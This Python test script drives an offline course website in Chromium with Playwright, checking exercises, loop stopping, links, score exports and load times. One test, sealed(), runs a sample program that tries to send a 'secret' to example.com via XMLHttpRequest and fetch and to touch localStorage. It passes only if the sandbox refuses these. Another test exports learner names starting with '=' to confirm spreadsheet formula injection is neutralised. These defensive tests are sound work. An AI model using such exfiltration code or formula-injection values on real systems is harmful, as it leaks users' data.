"""Go through the built site in a browser without a network, as learners do, and print times and sizes.

    make docs PYODIDE="$(python -m docs.site_pyodide)"
    python -m docs.drive_site                 # from the folder of files, without a server
    python -m docs.drive_site --server        # from a server on this machine, as a school's
    python -m docs.drive_site learner loop    # some parts only

It needs playwright and a Chromium, and fails at the first part that does not do what docs/live.md says.
"""

from __future__ import annotations

import argparse
import functools
import html
import http.server
import json
import os
import re
import shutil
import sys
import tempfile
import threading
import time
import tomllib
from collections.abc import Callable
from pathlib import Path
from typing import Any
from urllib.parse import unquote

ROOT = Path(__file__).parents[1]
PROGRAMS = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
MINUTES = 10
WRONG = "    return (f(x + h) - f(x)) / h\n"
RIGHT = "    return (f(x + h) - f(x - h)) / (2 * h)\n"
NUMBER = re.compile(r"-?\d+\.\d+(?:e[+-]?\d+)?|-?\d+")
WORDS = {
    "en": {
        "check": "Check",
        "run": "Run",
        "stop": "Stop",
        "train": "Train",
        "solved": "Solved",
        "wrong": "Not right yet",
    },
    "ja": {
        "check": "採点",
        "run": "実行",
        "stop": "停止",
        "train": "訓練する",
        "solved": "正解です",
        "wrong": "まだ正しくありません",
    },
}


class Site:
    """The built site in one browser, whose profile stays: what a page keeps is there when it is opened again."""

    def __init__(self, context: Any, base: str) -> None:
        self.context, self.base, self.requests, self.elsewhere = context, base, dict[str, int](), list[str]()
        self.page: Any = None

    def open(self, name: str) -> Any:
        self.close()
        self.page = self.context.new_page()
        self.page.set_default_timeout(60_000 * MINUTES)
        self.page.on("dialog", lambda dialog: dialog.accept())
        self.page.on("request", self._seen)
        self.page.on("requestfailed", self._refused)
        self.page.on("pageerror", lambda error: sys.exit(f"{name}: {error}"))
        self.page.goto(f"{self.base}{name}")
        self.page.locator("html.live-ready").wait_for(state="attached")
        return self.page

    def close(self) -> None:
        """Close the page. It may have asked for nothing outside of the site that its content policy did not refuse."""
        if self.page is not None:
            check(not self.elsewhere, f"the page asked for {', '.join(self.elsewhere)}")
            self.page.close()
            self.page = None

    def _refused(self, request: Any) -> None:
        if request.failure == "csp" and request.url in self.elsewhere:
            self.elsewhere.remove(request.url)

    def _seen(self, request: Any) -> None:
        if not request.url.startswith((self.base, "blob:", "data:")):
            self.elsewhere.append(request.url)
            return
        path = ROOT / "out" / "docs" / unquote(request.url.removeprefix(self.base)).partition("#")[0]
        self.requests[path.name] = path.stat().st_size if path.is_file() else 0

    def put(self, text: str, number: int = 0) -> None:
        """Write a program into an editor, as a reader who selects all and pastes."""
        editor = self.page.locator(".live-editor .cm-content").nth(number)
        editor.click()
        self.page.keyboard.press("Control+A")
        self.page.keyboard.insert_text(text)

    def press(self, name: str, number: int = 0) -> float:
        """Press a button, and wait until Python is done. Return the seconds."""
        start = time.perf_counter()
        self.page.get_by_role("button", name=name, exact=True).nth(number).click()
        self.done()
        return time.perf_counter() - start

    def done(self) -> None:
        self.page.locator("html[data-live=idle]").wait_for(state="attached")

    def results(self, number: int = 0) -> str:
        return str(self.page.locator(".live-results").nth(number).inner_text())


def check(right: bool, what: str) -> None:
    if not right:
        sys.exit(f"FAILED: {what}")


def learner(site: Site) -> None:
    """A learner gets 1.1 wrong, reads why, opens the step, solves it, and finds the work again, in both languages."""
    for language, folder in (("en", ""), ("ja", "ja/")):
        words, name = WORDS[language], f"course/exercises/{folder}1_1_nudge.html"
        page = site.open(name)
        stub = page.locator(".live-editor .cm-content").inner_text()
        site.put(program_with(stub, WRONG))
        cold = site.press(words["check"])
        text = site.results()
        said = "Probably" if language == "en" else "考えられる原因"
        check(said in text, f"{language}: no diagnosis in {text!r}")
        frame = page.locator(".live-results iframe").content_frame
        frame.locator("body").wait_for()
        shown = frame.locator("body").inner_text()
        check("1.1" in shown, f"{language}: the page of the answer shows {shown[:200]!r}")
        check(words["wrong"] in page.inner_text(".live-mark"), f"{language}: no mark")
        site.put(program_with(stub, RIGHT))
        again = site.press(words["check"])
        check(words["solved"] in page.inner_text(".live-mark"), f"{language}: not solved: {site.results()}")
        page = site.open(name)
        kept = page.locator(".live-editor .cm-content").inner_text()
        check("(2 * h)" in kept and words["solved"] in page.inner_text(".live-mark"), f"{language}: the work is gone")
        print(
            f"  {language}: diagnosis, step, tick, and kept; first check {cold:.1f} s with Python's start, next {again:.1f} s"
        )


def program_with(stub: str, line: str) -> str:
    start = stub.index("def slope")
    return stub[start : stub.index("\n", start) + 1] + line


def loop(site: Site) -> None:
    """An endless loop is stopped by the button, and the page goes on; one in an exercise ends by itself, with its line."""
    page = site.open("playground.html")
    site.put("while True:\n    pass\n")
    page.get_by_role("button", name="Run", exact=True).click()
    page.get_by_text("Running.").wait_for()
    time.sleep(2)
    start = time.perf_counter()
    site.press("Stop")
    stopped = time.perf_counter() - start
    site.put("print(6 * 7)\n")
    again = site.press("Run")
    check("42" in site.results(), "nothing ran after a stop")
    print(f"  stopped after {stopped:.1f} s, the next program was done {again:.1f} s later")
    site.open("course/exercises/1_1_nudge.html")
    site.put("def slope(f, x, h=1e-5):\n    while True:\n        x = x + 1\n")
    late = site.press("Check")
    check("does not come to an end" in site.results() and "line" in site.results(), site.results())
    print(f"  an exercise with an endless loop: its line after {late:.1f} s")


def capstone(site: Site) -> None:
    """The GPT of the learner's answers trains for at least 100 steps."""
    site.open("course.html")
    seconds = site.press("Train")
    text = site.results(1)
    said = site.page.locator(".live-status").all_inner_texts()
    check("epoch  20:" in text and "It writes:" in text, f"the capstone: {text!r} {said}")
    pictures = site.page.locator(".live-results img").count()
    print(f"  20 epochs, 140 steps, in {seconds:.1f} s with Python's start; pictures: {pictures}")


def lessons(site: Site) -> None:
    """Every lesson runs to its end, and prints the numbers that the build printed in a terminal's Python."""
    for path in sorted((ROOT / "out/docs/course").glob("[0-9]*.html")):
        page = site.open(f"course/{path.name}")
        built = page.locator(".live").evaluate_all(
            "all => all.map(one => [...one.querySelectorAll('.live-built pre')].map(pre => pre.textContent).join(''))"
        )
        cells = page.locator('.live[data-kind="cell"]')
        last = cells.count() - 1
        seconds = site.press("Run", last)
        check(cells.nth(last).get_attribute("data-ran") == "yes", f"{path.stem}: {site.results(last)}")
        ran = cells.evaluate_all("all => all.map(one => one.querySelector('.live-results .live-text').textContent)")
        others = [(a, b) for a, b in zip(built, ran) if numbers(a) != numbers(b)]
        print(
            f"  {path.stem}: {last + 1} cells in {seconds:.1f} s, {sum(len(NUMBER.findall(text)) for text in ran)} numbers"
        )
        for a, b in others:
            print(f"    built: {a.strip()!r}\n    here:  {b.strip()!r}")


def numbers(text: str) -> list[str]:
    """The numbers of a print-out. NumPy's default integer has 32 bits in WebAssembly, so its name is no number here."""
    return NUMBER.findall(re.sub(r"\bint(?:32|64)\b", "int", text))


def frozen(site: Site) -> None:
    """The 60 frozen wrong answers get the same report in the page as in the terminal."""
    from minigrad.learn.checker import Job, check as checked
    from minigrad.learn.report import report
    from minigrad.learn.tasks import find

    found = [
        (path.stem, one)
        for path in sorted((ROOT / "tests/minigrad/learn/answers").glob("*.toml"))
        for one in tomllib.loads(path.read_text(encoding="utf-8"))["answer"]
        if one["origin"] == "fresh"
    ]
    state = json.dumps({"seed": 7, "language": "en", "passed": [], "hints": {}, "attempts": {}})
    same, start = 0, time.perf_counter()
    with tempfile.TemporaryDirectory() as folder:
        for label, one in found:
            task = find(label)
            path = Path(folder) / task.file
            path.write_text(one["code"], encoding="utf-8")
            (verdict,) = checked([Job(task, path, 7)])
            wanted = report(verdict, "en")
            site.open(
                f"course/exercises/{task.file.removesuffix('.py')}.html"
            ) if site.page is None or task.file.removesuffix(".py") not in site.page.url else None
            site.page.evaluate("state => localStorage.setItem('minigrad/course/learn.json', state)", state)
            site.put(one["code"])
            site.press("Check")
            got = site.page.locator(".live-results .live-text").first.text_content()
            if got.startswith(wanted.strip()):
                same += 1
            else:
                print(f"    {label} {one['file']}:\n      terminal: {wanted!r}\n      page:     {got!r}")
    print(f"  {same} of {len(found)} frozen wrong answers: the same report, in {time.perf_counter() - start:.0f} s")
    check(same == len(found), "a report differs")


def drawing(site: Site) -> None:
    """draw_dot draws."""
    site.open("playground.html")
    source = (
        "import minigrad as mg\nx = mg.Tensor(2.0, requires_grad=True)\nmg.draw_dot(x * x + 1).render('graph.svg')\n"
    )
    site.put(source)
    seconds = site.press("Run")
    check(site.page.locator(".live-results img").count() == 1, site.results())
    print(f"  draw_dot in {seconds:.1f} s with the start of Python")


def link(site: Site) -> None:
    """A link carries a program, which is shown and not run."""
    page = site.open("playground.html")
    site.put("print('from a link')\n")
    page.get_by_role("button", name="Copy a link").click()
    page.get_by_text("clipboard").wait_for()
    address = page.evaluate("location.href")
    page = site.open(address.removeprefix(site.base))
    page.get_by_text("came with the link").wait_for()
    check("from a link" in page.locator(".cm-content").inner_text(), "the program of the link is not in the editor")
    check(not page.locator(".live-results").is_visible(), "the program of the link was run")
    print(f"  a link of {len(address.partition('#')[2])} letters")


LEAK = """
import js
try:
    request = js.XMLHttpRequest.new()
    request.open("GET", "https://example.com/?secret", False)
    request.send()
    print("it was sent")
except BaseException as error:
    print("refused:", type(error).__name__)
open("page.html", "w").write("<body>before<script>try { localStorage.x = 1; document.body.append(' kept') }"
    " catch { document.body.append(' refused') } fetch('https://example.com/?secret').then("
    "() => document.body.append(' sent'), () => document.body.append(' refused'))</script>")
"""


def sealed(site: Site) -> None:
    """A program reaches no other place, and neither does a page that it writes, which sees nothing of the reader's work."""
    site.open("playground.html")
    site.put(LEAK)
    site.press("Run")
    text = site.page.locator(".live-results .live-text").first.inner_text()
    check(text.split() == ["refused:", "JsException"], text)
    body = site.page.locator(".live-results iframe").content_frame.locator("body")
    body.get_by_text("before refused refused").wait_for()
    print("  XMLHttpRequest, a frame's fetch and its storage: refused")


def classroom(site: Site) -> None:
    """A learner's score is a file, and the teacher's page makes a table of the files of thirty."""
    page = site.open("course.html")
    page.get_by_placeholder("Your name").fill("Ada")
    with page.expect_download() as saved:
        seconds = site.press("Score")
    score = json.loads(Path(saved.value.path()).read_text(encoding="utf-8"))
    check(score["learner"] == "Ada" and score["of"] == len(score["tasks"]), str(score)[:200])
    with tempfile.TemporaryDirectory() as folder:
        files = [Path(folder) / f"{i}.json" for i in range(30)]
        for i, path in enumerate(files):
            path.write_text(json.dumps({**score, "learner": f"=learner {i}", "seed": i}), encoding="utf-8")
        page = site.open("teaching.html")
        page.locator(".live-drop input").set_input_files(files)
        page.locator(".live-table tbody tr").nth(29).wait_for()
        with page.expect_download() as table:
            page.get_by_role("button", name="Save the table").click()
        rows = Path(table.value.path()).read_text(encoding="utf-8-sig").splitlines()
    check(rows[0].startswith("learner,seed,task,state") and len(rows) == 1 + 30 * score["of"], f"{len(rows)} rows")
    check(all(row.startswith("'=learner") for row in rows[1:]), "a name that begins like a formula")
    print(f"  the score of {score['of']} answers in {seconds:.1f} s with Python's start; 30 files: {len(rows)} rows")


def processor() -> float:
    """Return the seconds of processor time that the browser has used, on Linux: a busy machine does not change them much."""
    used, parents = dict[int, float](), dict[int, int]()
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = path.read_text().rpartition(")")[2].split()
        except OSError:  # it has ended
            continue
        parents[int(path.parent.name)] = int(fields[1])
        used[int(path.parent.name)] = (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def ours(process: int) -> bool:
        return process == os.getpid() or (process in parents and ours(parents[process]))

    return sum(seconds for process, seconds in used.items() if ours(process))


def ready(site: Site) -> None:
    """Python is there in under 8 s from a warm cache, and the lessons load less than 25 MB."""
    for name, what in (("playground.html", "numpy"), ("course/01_nudging.html", "with Matplotlib")):
        for turn in ("first", "warm"):
            site.requests.clear()
            site.open(name)
            before = processor()
            seconds = site.press("Run")
            used, size = processor() - before, sum(site.requests.values()) / 1e6
            print(
                f"  {what}, {turn}: the first cell done after {seconds:.1f} s, {used:.1f} s of a processor; {size:.1f} MB"
            )


PARTS: dict[str, Callable[[Site], None]] = {
    part.__name__: part for part in (ready, learner, loop, link, sealed, drawing, classroom, capstone, lessons, frozen)
}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("parts", nargs="*", metavar="PART", help=", ".join(PARTS))
    parser.add_argument("--server", action="store_true", help="serve the site on this machine instead of opening files")
    options = parser.parse_args()
    program = next(filter(None, map(shutil.which, PROGRAMS)), None)
    if program is None:
        sys.exit("no browser: install chromium")
    from playwright.sync_api import sync_playwright

    folder = ROOT / "out" / "docs"
    base = f"{folder.as_uri()}/"
    if options.server:
        handler = functools.partial(QuietHandler, directory=str(folder))
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        base = f"http://127.0.0.1:{server.server_port}/"
    with sync_playwright() as playwright, tempfile.TemporaryDirectory() as profile:
        arguments = ["--no-sandbox", "--disable-dev-shm-usage"]
        context = playwright.chromium.launch_persistent_context(
            profile, executable_path=program, args=arguments, offline=not options.server
        )
        site = Site(context, base)
        for name in options.parts or PARTS:
            print(f"{name}: {html.unescape(PARTS[name].__doc__ or '')}", flush=True)
            PARTS[name](site)
            site.close()
        context.close()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *arguments: Any) -> None:
        """Say nothing of each request."""


if __name__ == "__main__":
    main()
